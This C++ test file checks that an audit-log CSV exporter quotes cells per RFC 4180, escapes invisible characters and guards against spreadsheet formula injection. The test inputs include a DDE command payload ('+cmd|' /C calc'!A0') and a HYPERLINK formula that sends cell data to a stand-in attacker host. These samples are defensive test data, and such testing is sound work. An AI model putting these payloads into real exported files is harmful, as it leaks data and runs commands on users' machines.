#include "export/csv.hpp"

#include <audit/error.hpp>

#include <string>
#include <string_view>
#include <vector>

#include <doctest/doctest.h>

#include "base/text.hpp"
#include "rows_support.hpp"

using namespace audit;
using namespace audit::test;

namespace {

std::string cell(std::string_view text) {
  std::string out;
  exports::append_csv_cell(out, text);
  return out;
}

std::string csv(std::vector<Entry> entries, std::vector<std::string> fields) {
  ExportOptions options;
  options.fields = std::move(fields);
  return written(exports::make_csv, std::move(entries), options);
}

// RFC 4180 read the slow way, one character at a time, by the grammar of its section 2.
class CsvReader {
 public:
  explicit CsvReader(std::string_view text) : text_(text) {}

  std::vector<std::vector<std::string>> rows() {
    std::vector<std::vector<std::string>> rows;
    while (at_ < text_.size()) {
      rows.emplace_back();
      do rows.back().push_back(field());
      while (take(','));
      expect(take('\r') && take('\n'), "CRLF");
    }
    return rows;
  }

 private:
  std::string field() { return take('"') ? quoted() : plain(); }

  std::string quoted() {
    std::string field;
    while (true) {
      expect(at_ < text_.size(), "a closing quote");
      const char c = text_[at_++];
      if (c == '"' && !take('"')) return field;
      field.push_back(c);
    }
  }

  std::string plain() {
    std::string field;
    while (at_ < text_.size() && text_[at_] != ',' && text_[at_] != '\r') {
      expect(text_[at_] != '"' && text_[at_] != '\n', "quotes around this");
      field.push_back(text_[at_++]);
    }
    return field;
  }

  bool take(char c) {
    if (at_ == text_.size() || text_[at_] != c) return false;
    ++at_;
    return true;
  }

  void expect(bool there, const char* what) const {
    if (!there) FAIL("expected " << what << " at byte " << at_);
  }

  std::string_view text_;
  std::size_t at_ = 0;
};

std::vector<std::vector<std::string>> read_csv(std::string_view text) {
  return CsvReader(text).rows();
}

}  // namespace

TEST_CASE("a csv cell is quoted only when it must be, and its quotes are doubled") {
  CHECK(cell("") == "");
  CHECK(cell("plain text; with 'all' sorts (of) things") ==
        "plain text; with 'all' sorts (of) things");
  CHECK(cell("a,b") == "\"a,b\"");
  CHECK(cell("say \"hi\"") == "\"say \"\"hi\"\"\"");
  CHECK(cell("\"") == "\"\"\"\"");
  CHECK(cell("two\nlines") == "\"two\nlines\"");
  CHECK(cell("two\r\nlines") == "\"two\r\nlines\"");
  CHECK(cell(R"({"a":"b"})") == R"("{""a"":""b""}")");
  CHECK(cell("\u00fcber") == "\u00fcber");
}

TEST_CASE("a csv cell that a spreadsheet would run is guarded") {
  CHECK(cell("=1+1") == "'=1+1");
  CHECK(cell("@SUM(A1)") == "'@SUM(A1)");
  CHECK(cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0");
  CHECK(cell("-2+3") == "'-2+3");
  CHECK(cell("-") == "'-");
  CHECK(cell("--5") == "'--5");
  CHECK(cell("-5x") == "'-5x");
  CHECK(cell("-5.") == "'-5.");
  CHECK(cell("-1e") == "'-1e");
  CHECK(cell("+49 30 1234") == "'+49 30 1234");
  CHECK(cell("   =1+1") == "'   =1+1");
  CHECK(cell("\t=1+1") == "'\t=1+1");
  CHECK(cell("\r=1+1") == "\"'\r=1+1\"");
  CHECK(cell("\n=1+1") == "\"'\n=1+1\"");
  CHECK(cell("=A1,\"x\"") == "\"'=A1,\"\"x\"\"\"");
  CHECK(cell("\uff1dA1") == "'\uff1dA1");
}

TEST_CASE("a csv cell that is a number stays one") {
  for (const char* number : {"-5", "+3.2", "-0.001", "-1e9", "+2.5E-7", "0", "42"}) {
    CHECK(cell(number) == number);
  }
  CHECK(cell("  -5") == "  -5");
  CHECK(cell("a=b") == "a=b");
  CHECK(cell("x@y.example") == "x@y.example");
}

TEST_CASE("what cannot be seen is spelt out in a csv cell, tabs and line breaks stay") {
  CHECK(cell("\x1b[31m") == "\\x1b[31m");
  CHECK(cell(std::string_view("a\0b", 3)) == "a\\x00b");
  CHECK(cell("a\u202eb") == "a\\u202eb");
  CHECK(cell("a\tb") == "a\tb");
  CHECK(cell("a\xff") == "a\\xff");
  CHECK(cell("\x7f") == "\\x7f");
  CHECK(cell("\x01=1+1") == "\\x01=1+1");
  CHECK(cell("\u200b=1+1") == "\\u200b=1+1");
}

TEST_CASE("hostile texts neither break a csv row nor stay invisible") {
  std::vector<Entry> entries;
  for (const std::string& text : hostile_texts()) entries.push_back(with_payload(7, text));
  const std::string out = csv(entries, {"seq", "payload", "seq"});
  const auto rows = read_csv(out);
  REQUIRE(rows.size() == hostile_texts().size() + 1);
  for (const auto& row : rows) {
    REQUIRE(row.size() == 3);
    CHECK(row[0] == row[2]);
    CHECK(row[1].find('\x1b') == std::string::npos);
    CHECK(row[1].find('\0') == std::string::npos);
    CHECK(row[1].find("\u202e") == std::string::npos);
    CHECK(row[1].find("\u009b") == std::string::npos);
    CHECK(row[1].front() != '=');
  }
  CHECK(rows[1][1] == "line\nbreak");
  CHECK(rows[2][1] == "quote\"comma,");
  CHECK(rows[3][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1)");
  CHECK(rows[7][1] == "back\\slash");
  CHECK(rows[10][1] == "\U0001f600 and \u4f60");
  CHECK(base::is_utf8(out));
}

TEST_CASE("csv values have the units and names people know") {
  Entry entry = bare_entry(12);
  entry.envelope.set_number(Field::time, kNoonNs + 250'000'000);
  entry.envelope.set_number(Field::side_effect, 1);
  entry.envelope.set_number(Field::cost_nano, 1'234'500'000);
  entry.envelope.set_number(Field::risk_score, 250'000);
  entry.envelope.set_number(Field::step, -3);
  entry.envelope.set_hash(Field::digest, entry.hash);
  entry.envelope.set_text(Field::flags, "schema");
  entry.envelope.set_text(Field::flags, "conflict");
  CHECK(csv({entry}, {"seq", "time", "received", "side_effect", "cost", "cost_nano", "risk_score",
                      "step", "flags", "user", "digest"}) ==
        "seq,time,received,side_effect,cost,cost_nano,risk_score,step,flags,user,digest\r\n"
        "12,2026-08-01T12:00:00.250Z,2026-08-01T12:00:00Z,true,1.2345,1234500000,0.25,-3,"
        "schema; conflict,," +
            std::string(kBareHash) + "\r\n");
}

TEST_CASE("a list in csv cannot smuggle a formula in its first element") {
  CHECK(csv({with_text(Field::flags, "=1+1")}, {"flags"}) == "flags\r\n'=1+1\r\n");
}

TEST_CASE("csv without named fields has the default columns and no payload") {
  const auto rows = read_csv(written(exports::make_csv, {with_payload(3, "{\"secret\":1}")}));
  REQUIRE(rows.size() == 2);
  CHECK(rows[0] == std::vector<std::string>{
                       "seq",         "time",     "received", "type",      "agent",      "user",
                       "session",     "tool",     "action",   "status",    "decision",   "policy",
                       "approval",    "approver", "model",    "tokens_in", "tokens_out", "cost",
                       "duration_us", "risk",     "reason",   "error",     "event_id",   "hash"});
  REQUIRE(rows[1].size() == rows[0].size());
  CHECK(rows[1][0] == "3");
  CHECK(rows[1].back() == kBareHash);
}

TEST_CASE("csv of no entries is a header") { CHECK(csv({}, {"seq", "agent"}) == "seq,agent\r\n"); }

TEST_CASE("large csv output comes in pieces of at most 64 KiB that add up") {
  std::vector<Entry> entries;
  for (std::uint64_t i = 0; i < 200; ++i)
    entries.push_back(with_payload(i, std::string(3000, 'x')));
  entries.push_back(with_payload(200, std::string(300'000, 'y')));
  ExportOptions options;
  options.fields = {"seq", "payload"};
  VectorRows rows(entries);
  std::string all;
  std::size_t largest = 0;
  const auto count =
      exports::write_lines(rows, *exports::make_csv({}, options), [&](std::string_view piece) {
        largest = std::max(largest, piece.size());
        all.append(piece);
      });
  CHECK(count == 201);
  CHECK(largest <= 64 * 1024);
  const auto read = read_csv(all);
  REQUIRE(read.size() == 202);
  CHECK(read[200][1] == std::string(3000, 'x'));
  CHECK(read[201][1] == std::string(300'000, 'y'));
}

TEST_CASE(
    "csv of several ledgers lacks the ledger of a row, or lets its name run or break the row") {
  class NamedVectorRows final : public exports::NamedRows {
   public:
    bool next() override { return rows_.next(); }

    const Entry& entry() const override { return rows_.entry(); }

    std::string_view ledger() const override { return hostile_texts()[entry().seq]; }

   private:
    VectorRows rows_{[] {
      std::vector<Entry> entries;
      while (entries.size() < hostile_texts().size()) entries.push_back(bare_entry(entries.size()));
      return entries;
    }()};
  };

  const auto lines_of = [](const std::vector<std::string>& fields, auto& rows) {
    ExportOptions options;
    options.fields = fields;
    std::string all;
    exports::write_named_csv(rows, options, [&](std::string_view piece) { all.append(piece); });
    return read_csv(all);
  };
  NamedVectorRows rows;
  const auto lines = lines_of({"seq", "agent"}, rows);
  REQUIRE(lines.size() == hostile_texts().size() + 1);
  CHECK(lines[0] == std::vector<std::string>{"ledger", "seq", "agent"});
  for (std::size_t i = 0; i < hostile_texts().size(); ++i) {
    const std::string name = read_csv(cell(hostile_texts()[i]) + "\r\n")[0][0];
    CHECK(lines[i + 1] == std::vector<std::string>{name, std::to_string(i), ""});
  }
}
